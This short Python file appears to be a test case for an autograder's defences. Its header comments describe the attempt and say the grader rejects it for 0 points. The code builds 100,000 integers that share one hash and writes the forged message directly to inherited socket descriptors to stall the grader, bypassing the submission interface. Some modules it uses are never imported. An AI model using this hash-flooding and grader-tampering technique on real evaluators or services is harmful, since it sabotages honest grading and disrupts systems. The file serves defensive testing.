# Tries: a forged set of 100,000 integers that all have one hash, so that the grader would rebuild it for hours.
# Holds: the grader refuses it at once.
# Points: 0
# %%
from autograder.submission import wire

PRIME = 2**61 - 1


def answer(value):
    tree = ["s", [["i", str(PRIME * number)] for number in range(1, 100_000)]]
    header = wire._encoder.encode(wire._Header(wire.VERSION, ["d", [["value", tree]]], []))
    for descriptor in range(3, 64):
        with contextlib.suppress(OSError):
            sock = socket.socket(fileno=os.dup(descriptor))
            sock.sendall(wire.PREFIX.pack(len(header), 0) + header)
            sock.detach()


def scale(x, factor):
    answer(x)


def scale_backward(dout, x, factor):
    answer(x)


report()
